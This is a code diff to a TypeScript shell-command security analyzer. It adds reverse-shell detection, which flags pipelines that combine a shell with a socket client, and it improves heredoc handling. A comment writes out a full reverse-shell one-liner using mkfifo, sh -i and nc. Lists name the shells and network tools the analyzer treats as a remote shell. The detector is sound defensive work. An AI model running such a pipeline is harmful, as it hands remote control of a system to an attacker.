@@ -134,11 +134,24 @@ function assign(node: Node, state: WalkState, depth: number, variables: ShellVar
   walk(value, state, depth, variables);
 }
 
-function walkPipeline(node: Node, state: WalkState, depth: number, variables: ShellVariables): void {
+function walkPipeline(
+  node: Node,
+  state: WalkState,
+  depth: number,
+  variables: ShellVariables,
+  firstInput: CommandInput = { kind: 'none' },
+): void {
   let previous: SimpleCommand | undefined;
+  const programs: string[] = [];
+  let first = true;
   for (const child of node.namedChildren) {
     if (child === null) continue;
-    const input: CommandInput = previous === undefined ? { kind: 'none' } : { kind: 'pipe', from: previous };
+    const input: CommandInput = first
+      ? firstInput
+      : previous === undefined
+        ? { kind: 'none' }
+        : { kind: 'pipe', from: previous };
+    first = false;
     if (child.type === 'command') previous = walkCommand(child, state, depth, variables, input, []);
     else if (child.type === 'redirected_statement')
       previous = walkRedirected(child, state, depth, variables, input);
@@ -147,7 +160,37 @@ function walkPipeline(node: Node, state: WalkState, depth: number, variables: Sh
       previous = undefined;
     }
   }
+  for (const name of node.descendantsOfType('command_name'))
+    if (name !== null) programs.push(name.text.replace(/^.*\//, ''));
+  // A shell reading from or writing to a raw socket in one pipeline is a remote shell
+  // (`mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f`).
+  const shell = programs.find((program) => SHELL_NAMES.has(program));
+  const socket = programs.find((program) => SOCKET_CLIENTS.has(program));
+  if (shell !== undefined && socket !== undefined)
+    state.findings.add({
+      code: `net.reverse-shell:${shell}|${socket}`,
+      exfil: 0.97,
+      destructive: 0.5,
+      onTask: 0.02,
+    });
 }
+
+const SHELL_NAMES = new Set([
+  'sh',
+  'bash',
+  'zsh',
+  'dash',
+  'ksh',
+  'ash',
+  'fish',
+  'python',
+  'python3',
+  'perl',
+  'ruby',
+  'php',
+  'node',
+]);
+const SOCKET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'cryptcat']);
 
 function walkRedirected(
   node: Node,
@@ -158,6 +201,7 @@ function walkRedirected(
 ): SimpleCommand | undefined {
   const redirects: Redirect[] = [];
   let document: string | undefined;
+  const continuations: Node[] = [];
   for (const redirect of node.childrenForFieldName('redirect')) {
     if (redirect === null) continue;
     if (redirect.type === 'heredoc_redirect') {
@@ -168,15 +212,10 @@ function walkRedirected(
         // Unquoted heredoc bodies expand `$(…)` and backticks when the shell reads them.
         walk(body, state, depth, variables);
       }
-      // A heredoc may be followed by more of the pipeline or list on its first line.
+      // The rest of the heredoc's first line (`cat <<EOF | sh`) hangs under the redirect.
       for (const child of redirect.namedChildren)
-        if (
-          child !== null &&
-          child.type !== 'heredoc_body' &&
-          child.type !== 'heredoc_start' &&
-          child.type !== 'heredoc_end'
-        )
-          walk(child, state, depth, variables);
+        if (child !== null && !['heredoc_body', 'heredoc_start', 'heredoc_end'].includes(child.type))
+          continuations.push(child);
     } else if (redirect.type === 'herestring_redirect') {
       const value = redirect.namedChildren.find((child) => child !== null);
       if (value != null) {
@@ -197,7 +236,21 @@ function walkRedirected(
   }
   const body = node.childForFieldName('body');
   const bodyInput: CommandInput = document !== undefined ? { kind: 'document', body: document } : input;
-  if (body?.type === 'command') return walkCommand(body, state, depth, variables, bodyInput, redirects);
+  if (body?.type === 'command') {
+    const command = walkCommand(body, state, depth, variables, bodyInput, redirects);
+    for (const continuation of continuations) {
+      if (continuation.type === 'pipeline' && command !== undefined)
+        walkPipeline(continuation, state, depth, variables, { kind: 'pipe', from: command });
+      else walk(continuation, state, depth, variables);
+    }
+    return command;
+  }
+  for (const continuation of continuations) walk(continuation, state, depth, variables);
+  // `cat <<EOF | sh`: the grammar hangs the heredoc on the pipeline; it feeds the first command.
+  if (body?.type === 'pipeline' && redirects.length === 0) {
+    walkPipeline(body, state, depth, variables, bodyInput);
+    return undefined;
+  }
   for (const redirect of redirects)
     judgeRedirect(redirect, createScope(state, depth, variables, placeholder(node.text)));
   if (body !== null) walk(body, state, depth, variables);
